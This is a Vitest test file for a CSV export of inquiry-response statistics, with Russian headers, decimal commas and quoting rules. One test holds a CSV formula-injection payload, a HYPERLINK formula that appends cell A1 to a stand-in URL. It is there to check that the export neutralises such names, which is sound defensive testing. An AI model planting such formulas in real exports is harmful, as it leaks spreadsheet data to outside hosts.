import { describe, expect, it } from 'vitest';
import { INQUIRY_STATUSES, STATUS_NAMES } from '../../../lambdas/domain/inquiry/status.js';
import type { AnswerFigures, StatisticsGroup } from '../../../lambdas/domain/operator/statistics.js';
import { type StatisticsNames, statisticsCsv } from '../../../lambdas/domain/operator/statistics-csv.js';
import { CATEGORIES, CATEGORY_NAMES } from '../../../lambdas/domain/taxonomy.js';
import { csvRows } from '../../support/csv.js';

const figures = (fields: Partial<AnswerFigures> = {}): AnswerFigures => ({
  count: 7,
  medianMinutes: 12.5,
  p90Minutes: 95,
  medianWorkingMinutes: 10,
  p90WorkingMinutes: 61.3,
  inTime: 6,
  late: 1,
  inTimeShare: 0.857,
  ...fields,
});

const group = (fields: Partial<StatisticsGroup> = {}): StatisticsGroup => ({
  department: 'housing',
  community: 123456789,
  total: 9,
  byStatus: { answered: 7, routed: 2 },
  byCategory: { waste: 5, housing: 4 },
  citizenSettled: 1,
  firstResponse: figures(),
  resolution: figures({ count: 5, inTime: 3, late: 2, inTimeShare: 0.6 }),
  answeredInTimeShare: 0.857,
  ...fields,
});

const names = (
  departments: Record<string, string>,
  communities: Record<number, string> = {},
): StatisticsNames => ({
  department: (id) => departments[id],
  community: (groupId) => communities[groupId],
});

const HOUSING = names({ housing: 'Департамент ЖКХ' }, { 123456789: 'Администрация (демо)' });

/** The rows of the file, its byte order mark taken off, each as header → cell. */
function sheet(text: string): Record<string, string>[] {
  const [header = [], ...rows] = csvRows(text.replace(/^\uFEFF/, ''));
  return rows.map((row) => Object.fromEntries(header.map((name, index) => [name, row[index] ?? ''])));
}

describe('the statistics as a CSV file', () => {
  it('starts with the UTF-8 byte order mark, ends each row in CRLF, and puts ; between cells', () => {
    const text = statisticsCsv([group()], HOUSING);
    expect(text.startsWith('\uFEFFКод отдела;Отдел;ID сообщества VK;Сообщество VK;Всего обращений;')).toBe(
      true,
    );
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(3);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('gives a column to every status and category, in a fixed order, 0 where none', () => {
    const [header = [], row = []] = csvRows(statisticsCsv([group()], HOUSING).slice(1));
    const statuses = INQUIRY_STATUSES.map((status) => `Статус: ${STATUS_NAMES[status]}`);
    const categories = CATEGORIES.map((category) => `Категория: ${CATEGORY_NAMES[category]}`);
    expect(header.slice(5, 5 + statuses.length + categories.length)).toEqual([...statuses, ...categories]);
    expect(row).toHaveLength(header.length);
    const [only] = sheet(statisticsCsv([group()], HOUSING));
    expect(only?.['Статус: ответ дан']).toBe('7');
    expect(only?.['Статус: закрыто']).toBe('0');
    expect(only?.['Категория: Мусор и ТКО']).toBe('5');
    expect(only?.['Категория: Дороги']).toBe('0');
    // A period with nothing in it still has every column: the sheets of two months line up.
    expect(csvRows(statisticsCsv([], HOUSING).slice(1))).toEqual([header]);
  });

  it('puts each count and figure under its own header, none in another’s column', () => {
    // Every count and figure different, so that two columns swapped would show.
    const byStatus = Object.fromEntries(INQUIRY_STATUSES.map((status, index) => [status, index + 1]));
    const byCategory = Object.fromEntries(CATEGORIES.map((category, index) => [category, 101 + index]));
    const answer = (base: number): AnswerFigures => ({
      count: base + 1,
      medianMinutes: base + 2.5,
      p90Minutes: base + 3.5,
      medianWorkingMinutes: base + 4.5,
      p90WorkingMinutes: base + 5.5,
      inTime: base + 6,
      late: base + 7,
      inTimeShare: (base + 8) / 1000,
    });
    const [row] = sheet(
      statisticsCsv(
        [
          group({
            total: 50,
            citizenSettled: 60,
            byStatus,
            byCategory,
            firstResponse: answer(200),
            resolution: answer(300),
          }),
        ],
        HOUSING,
      ),
    );
    const figures: [header: string, first: string, resolution: string][] = [
      ['дано', '201', '301'],
      ['медиана, мин', '202,5', '302,5'],
      ['90-й процентиль, мин', '203,5', '303,5'],
      ['медиана, рабочих мин', '204,5', '304,5'],
      ['90-й процентиль, рабочих мин', '205,5', '305,5'],
      ['в срок', '206', '306'],
      ['с опозданием', '207', '307'],
      ['доля в срок', '0,208', '0,308'],
    ];
    expect(row).toEqual({
      'Код отдела': 'housing',
      Отдел: 'Департамент ЖКХ',
      'ID сообщества VK': '123456789',
      'Сообщество VK': 'Администрация (демо)',
      'Всего обращений': '50',
      ...Object.fromEntries(
        INQUIRY_STATUSES.map((status, index) => [`Статус: ${STATUS_NAMES[status]}`, String(index + 1)]),
      ),
      ...Object.fromEntries(
        CATEGORIES.map((category, index) => [`Категория: ${CATEGORY_NAMES[category]}`, String(101 + index)]),
      ),
      'Вопрос решён по словам гражданина': '60',
      ...Object.fromEntries(
        figures.flatMap(([header, first, resolution]) => [
          [`Первый ответ: ${header}`, first],
          [`Ответ по существу: ${header}`, resolution],
        ]),
      ),
    });
  });

  it('writes the figures with a decimal comma, and null as an empty cell', () => {
    const nothingDue = figures({
      count: 0,
      medianMinutes: null,
      p90Minutes: null,
      medianWorkingMinutes: null,
      p90WorkingMinutes: null,
      inTime: 0,
      late: 0,
      inTimeShare: null,
    });
    const [given, none] = sheet(
      statisticsCsv([group(), group({ department: 'roads', firstResponse: nothingDue })], HOUSING),
    );
    expect(given?.['Первый ответ: доля в срок']).toBe('0,857');
    expect(given?.['Первый ответ: медиана, мин']).toBe('12,5');
    expect(given?.['Первый ответ: 90-й процентиль, рабочих мин']).toBe('61,3');
    expect(given?.['Ответ по существу: доля в срок']).toBe('0,6');
    expect(given?.['Ответ по существу: с опозданием']).toBe('2');
    expect(none?.['Первый ответ: дано']).toBe('0');
    expect(none?.['Первый ответ: медиана, мин']).toBe('');
    expect(none?.['Первый ответ: доля в срок']).toBe('');
  });

  it('quotes a name holding ;, " or a line break, and the spreadsheet reads it whole', () => {
    const awkward = 'Отдел "Дороги; мосты"\r\nи транспорт';
    const text = statisticsCsv([group()], names({ housing: awkward }, { 123456789: 'Пермь\nи край' }));
    expect(text).toContain('"Отдел ""Дороги; мосты""\r\nи транспорт"');
    const [row] = sheet(text);
    expect(row?.Отдел).toBe(awkward);
    expect(row?.['Сообщество VK']).toBe('Пермь\nи край');
    expect(row?.['Всего обращений']).toBe('9');
  });

  it('writes a name that would start a formula after a quote mark, so that it never runs', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const name = `${start}HYPERLINK("http://example.org/?"&A1;"Отдел")`;
      const [row] = sheet(statisticsCsv([group()], names({ housing: name })));
      expect(row?.Отдел, JSON.stringify(start)).toBe(`'${name}`);
    }
    // Inside a name, the same characters are the name's.
    const [row] = sheet(statisticsCsv([group()], names({ housing: 'ЖКХ = дома + дворы' })));
    expect(row?.Отдел).toBe('ЖКХ = дома + дворы');
  });

  it('leaves the name of a department or community no longer configured empty, its id still given', () => {
    const [row] = sheet(statisticsCsv([group({ department: 'old-housing' })], names({})));
    expect(row?.['Код отдела']).toBe('old-housing');
    expect(row?.Отдел).toBe('');
    expect(row?.['ID сообщества VK']).toBe('123456789');
    expect(row?.['Сообщество VK']).toBe('');
  });
});
